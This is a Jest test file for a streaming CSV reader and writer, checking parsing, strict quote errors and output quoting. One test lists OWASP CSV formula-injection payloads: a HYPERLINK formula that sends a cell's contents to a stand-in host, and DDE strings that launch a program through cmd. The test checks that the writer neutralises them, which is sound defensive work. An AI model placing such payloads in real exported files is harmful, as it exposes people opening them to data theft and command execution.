import { Readable } from "stream";
import {
  CsvError,
  type CsvRecord,
  MAX_RECORD_CHARS,
  formatCsvField,
  formatCsvRecord,
  neutralizeFormula,
  readCsv,
} from "../../src/cli/csv";

/** Read CSV text through the streaming reader, given in chunks of `chunk` bytes (all at once by default). */
async function parseCsv(
  text: string | Buffer,
  chunk = Infinity,
): Promise<{ records: CsvRecord[]; bom: boolean }> {
  const bytes = typeof text === "string" ? Buffer.from(text, "utf8") : text;
  const chunks: Buffer[] = [];
  for (let i = 0; i < bytes.length; i += Math.min(chunk, bytes.length))
    chunks.push(bytes.subarray(i, i + chunk));
  const reader = readCsv(Readable.from(chunks));
  const records: CsvRecord[] = [];
  for await (const record of reader) records.push(record);
  return { records, bom: reader.bom };
}

const fields = async (text: string, chunk?: number) =>
  (await parseCsv(text, chunk)).records.map((r) => r.fields);

describe("readCsv (RFC 4180, streaming)", () => {
  test("plain fields, CRLF records, no record after the final line break", async () => {
    expect(await fields("a,b,c\r\n1,2,3\r\n")).toEqual([
      ["a", "b", "c"],
      ["1", "2", "3"],
    ]);
  });

  test("LF and lone CR line breaks are accepted too", async () => {
    expect(await fields("a,b\n1,2\r3,4")).toEqual([
      ["a", "b"],
      ["1", "2"],
      ["3", "4"],
    ]);
  });

  test("quoted fields hold commas, doubled quotes and line breaks", async () => {
    const doc = await parseCsv('name,note\r\n"Smith, J","said ""hi""\r\nthen left"\r\nnext,x\r\n');
    expect(doc.records.map((r) => r.fields)).toEqual([
      ["name", "note"],
      ["Smith, J", 'said "hi"\r\nthen left'],
      ["next", "x"],
    ]);
    // The record after the two-line field starts on line 4.
    expect(doc.records.map((r) => r.line)).toEqual([1, 2, 4]);
  });

  test("empty fields, empty quoted fields and a trailing empty field", async () => {
    expect(await fields('a,,""\r\n,\r\n')).toEqual([
      ["a", "", ""],
      ["", ""],
    ]);
  });

  test("a byte order mark is removed and reported", async () => {
    const doc = await parseCsv("\uFEFFlocation,newJobs\r\nenhanced,300\r\n");
    expect(doc.bom).toBe(true);
    expect(doc.records[0].fields).toEqual(["location", "newJobs"]);
    expect((await parseCsv("a\r\n")).bom).toBe(false);
  });

  test("an empty line in the middle is a record of one empty field", async () => {
    expect(await fields("a\r\n\r\nb\r\n")).toEqual([["a"], [""], ["b"]]);
  });

  test("empty text has no records; a last line without a line break is a record", async () => {
    expect(await fields("")).toEqual([]);
    expect(await fields("x,y")).toEqual([["x", "y"]]);
  });

  // Before csv-parse these two were read leniently, as Excel reads them ('5" pipe' and "abc"):
  // issue 10 item 8 makes every stray quote an error, since read leniently one stray quote pairs
  // with the next and swallows the rows between.
  test("strict: a quote inside an unquoted field is an error naming the line", async () => {
    await expect(parseCsv('a,b\r\nx,y\r\n5" pipe,b\r\n')).rejects.toThrow(CsvError);
    await expect(parseCsv('a,b\r\nx,y\r\n5" pipe,b\r\n')).rejects.toThrow(
      /^line 3: in the row that starts on this line, a " is inside a field that does not start with one \(after "5"\); a field holding a quote must be written in quotes, with the quote doubled/,
    );
  });

  test("strict: text after a closing quote is an error naming the line", async () => {
    await expect(parseCsv('a,b\r\n"ab"c,d\r\n')).rejects.toThrow(
      /^line 2: in the row that starts on this line, a quoted field is followed by "c" after its closing quote/,
    );
  });

  test("a quoted field that never closes is an error naming the line it opened on", async () => {
    await expect(parseCsv('a,b\r\n1,"unterminated\r\n2,3\r\n')).rejects.toThrow(CsvError);
    await expect(parseCsv('a,b\r\n1,"unterminated\r\n2,3\r\n')).rejects.toThrow(
      /^line 2: a quoted field is never closed/,
    );
  });

  test("an unclosed quote that pairs with a later quote is refused at the line it opened on", async () => {
    // Read leniently, line 3's quote closes at line 5's and rows 4 and 5 vanish into one field.
    const text = 'a,b\n1,2\n3,"x\n4,5\n6,"y"\n7,8\n';
    await expect(parseCsv(text)).rejects.toThrow(/^line 3: in the row that starts on this line/);
  });

  test("lines are counted across quoted line breaks (CRLF, LF, CR) for the error's line", async () => {
    const text = 'a,b\r\n"one\r\ntwo\nthree\rfour",x\r\nok,1\r\n5" pipe,b\r\n';
    await expect(parseCsv(text)).rejects.toThrow(/^line 7: /);
  });

  test("a never-closed quote in a long file stops at the record size limit, naming its line", async () => {
    const text = 'a,b\n1,"open\n' + "2,3\n".repeat(MAX_RECORD_CHARS / 4 + 10);
    await expect(parseCsv(text, 65536)).rejects.toThrow(
      /^line 2: the row that starts on this line is longer than 1,000,000 characters: most likely a quoted field opened on it is never closed/,
    );
  });

  test("records are the same whatever the chunks: split quotes, CRLFs, multi-byte characters, the BOM", async () => {
    const text =
      '\uFEFFname,note\r\n"Müller, J","said ""hé""\r\nthen €"\r\nnext,x\r\n\r\nlast,"",\r\n';
    const whole = await parseCsv(text);
    expect(whole.bom).toBe(true);
    expect(whole.records.map((r) => r.fields)).toEqual([
      ["name", "note"],
      ["Müller, J", 'said "hé"\r\nthen €'],
      ["next", "x"],
      [""],
      ["last", "", ""],
    ]);
    expect(whole.records.map((r) => r.line)).toEqual([1, 2, 4, 5, 6]);
    for (const chunk of [1, 2, 3, 5]) {
      const split = await parseCsv(text, chunk);
      expect(split.bom).toBe(true);
      expect(split.records.map((r) => [r.fields, r.line])).toEqual(
        whole.records.map((r) => [r.fields, r.line]),
      );
    }
  });

  test("the bytes read so far come with each record (for progress)", async () => {
    const doc = await parseCsv("a,b\n1,2\n3,4\n", 4);
    const bytes = doc.records.map((r) => r.bytes);
    expect(bytes[2]).toBeGreaterThan(bytes[0]);
    expect(bytes[2]).toBeLessThanOrEqual(12);
  });

  test("the input's own error (not a CSV error) comes through", async () => {
    const failing = new Readable({
      read() {
        this.destroy(new Error("disk gone"));
      },
    });
    const reader = readCsv(failing);
    await expect(
      (async () => {
        for await (const record of reader) void record;
      })(),
    ).rejects.toThrow("disk gone");
  });
});

describe("writing CSV", () => {
  test("quotes only when needed, doubling quotes", async () => {
    expect(formatCsvField("plain")).toBe("plain");
    expect(formatCsvField("a,b")).toBe('"a,b"');
    expect(formatCsvField('say "x"')).toBe('"say ""x"""');
    expect(formatCsvField("two\nlines")).toBe('"two\nlines"');
    expect(formatCsvField(" padded")).toBe('" padded"');
    expect(formatCsvField("")).toBe("");
  });

  test("formula injection: a cell starting with =, +, -, @, tab or CR is written as text with '", async () => {
    // OWASP's CSV injection payloads; each would run in a spreadsheet as written.
    expect(formatCsvField('=HYPERLINK("http://x.test/?"&A3,"x")')).toBe(
      '"\'=HYPERLINK(""http://x.test/?""&A3,""x"")"',
    );
    expect(formatCsvField("+cmd|' /C calc'!A0")).toBe("'+cmd|' /C calc'!A0");
    expect(formatCsvField("@SUM(1+1)*cmd|' /C calc'!A0")).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(formatCsvField("-2+3+cmd|' /C calc'!A0")).toBe("'-2+3+cmd|' /C calc'!A0");
    expect(formatCsvField("\t=1+1")).toBe("'\t=1+1");
    expect(formatCsvField("\r=1+1")).toBe('"\'\r=1+1"');
    expect(formatCsvField("=1,2")).toBe('"\'=1,2"');
    expect(formatCsvField("-")).toBe("'-");
    expect(formatCsvField("=")).toBe("'=");
  });

  test("formula injection: numbers stay numbers, other text is untouched", async () => {
    for (const n of [
      "-1500.00",
      "-3",
      "+3",
      "-0.5",
      "-.5",
      "-1,500.00",
      "-1e6",
      "+2.5E-3",
      "1500",
    ]) {
      expect(formatCsvField(n)).toBe(n.includes(",") ? `"${n}"` : n);
    }
    for (const t of ["enhanced", "a=b", "x-1", " =1+1", "'=1", "1-2", "100;150;200", ""]) {
      expect(neutralizeFormula(t)).toBe(t);
    }
    for (const t of ["-1-1", "+1+1", "-1.2.3", "--1", "-1,50", "-e5", "@1"]) {
      expect(neutralizeFormula(t)).toBe(`'${t}`);
    }
  });

  test("records end with CRLF", async () => {
    expect(formatCsvRecord(["a", "b,c"])).toBe('a,"b,c"\r\n');
  });

  test("round trip: what is written reads back the same", async () => {
    const records = [
      ["id", "text", "empty"],
      ["1", 'he said "no", twice\r\nand\nleft', ""],
      ["2", " lead", "trail "],
    ];
    expect(await fields(records.map(formatCsvRecord).join(""))).toEqual(records);
  });
});
